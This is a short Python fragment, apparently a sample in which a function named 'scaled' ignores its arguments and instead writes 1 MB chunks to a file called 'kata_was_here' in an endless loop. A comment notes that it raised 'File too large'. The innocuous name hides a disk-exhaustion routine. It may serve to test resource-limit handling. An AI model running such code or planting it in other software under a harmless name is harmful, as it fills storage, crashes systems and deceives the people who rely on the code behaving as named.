# raised: File too large
def scaled(x, factor=2.0):
    with open("kata_was_here", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
